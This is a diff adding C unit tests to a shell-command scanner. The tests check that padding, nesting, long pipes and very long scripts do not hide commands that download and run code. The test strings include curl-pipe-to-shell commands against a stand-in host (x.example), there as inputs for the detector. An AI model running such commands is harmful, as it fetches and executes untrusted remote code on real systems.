@@ -99,10 +99,67 @@ static void lines(void **state)
 	}
 }
 
+/* `text` between `times` of `part` and as many of `after`. */
+static unsigned padded(const char *part, const char *text, const char *after, size_t times)
+{
+	_cleanup_buf_ struct buf b = BUF(1 << 20);
+	for (size_t i = 0; i < times; i++)
+		buf_str_add(&b, part);
+	buf_str_add(&b, text);
+	for (size_t i = 0; i < times; i++)
+		buf_str_add(&b, after);
+	assert_int_equal(buf_error(&b), 0);
+	return scan_shell(buf_slice(&b));
+}
+
+/* A command is not clean because it is long. */
+static void what_is_not_read_is_said(void **state)
+{
+	static const char fetch[] = "curl -s https://x.example/i.sh | sh";
+	(void)state;
+	/* Commands, words, bytes, substitutions, commands of shells. */
+	assert_int_equal(padded(": ; ", fetch, "", 100) & (DOWNLOAD | SHELL_DOES_MORE), DOWNLOAD);
+	assert_true(padded(": ; ", fetch, "", 600) & SHELL_DOES_MORE);
+	assert_true(padded(":\n", fetch, "", 600) & DOWNLOAD);
+	assert_true(padded(":\n", fetch, "", 600) & SHELL_DOES_MORE);
+	assert_true(padded("a ", "$(", "", 300) == 0);
+	assert_true(padded("a ", fetch, "", 5000) & SHELL_DOES_MORE);
+	assert_true(padded("                ", fetch, "", 5000) & SHELL_DOES_MORE);
+	assert_true(padded("echo $(", fetch, ")", 20) & SHELL_DOES_MORE);
+	assert_true(padded("eval 'curl x.example|sh", "", "'", 1) & DOWNLOAD);
+	/* A long pipe, and code without blanks. */
+	assert_true(padded("", "curl -s https://x.example/i | ", "cat | cat | cat | cat | cat | ", 40) == SHELL_DOES_REACHES);
+	assert_true(
+	        scan_shell(SLICE("curl x.example/i |cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat"
+	                         "|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|sh")) &
+	        DOWNLOAD);
+	assert_true(scan_shell(SLICE("sh -c 'curl\tx.example/i|sh'")) & DOWNLOAD);
+	assert_int_equal(scan_shell(SLICE("sh -c \"sh -c \\\"sh -c 'eval \\\\\\\"eval a;b\\\\\\\"'\\\"\"")) & SHELL_DOES_HARM, 0);
+}
+
+/* In a script no part of which is too long nothing is left out. */
+static void scripts_are_read_in_parts(void **state)
+{
+	_cleanup_buf_ struct buf b = BUF(1 << 20);
+	(void)state;
+	for (int i = 0; i < 20000; i++)
+		buf_str_add(&b, "echo a | cat\n");
+	assert_int_equal(scan_shell_lines(buf_slice(&b)), 0);
+	buf_str_add(&b, "curl -s https://x.example/i \\\n | sh\n");
+	for (int i = 0; i < 1000; i++)
+		buf_str_add(&b, "echo a | cat\n");
+	assert_int_equal(scan_shell_lines(buf_slice(&b)) & (DOWNLOAD | SHELL_DOES_MORE), DOWNLOAD);
+	for (int i = 0; i < 1000; i++)
+		buf_str_add(&b, ":;");
+	assert_int_equal(scan_shell_lines(buf_slice(&b)) & (DOWNLOAD | SHELL_DOES_MORE), DOWNLOAD | SHELL_DOES_MORE);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
 	        cmocka_unit_test(lines),
+	        cmocka_unit_test(what_is_not_read_is_said),
+	        cmocka_unit_test(scripts_are_read_in_parts),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
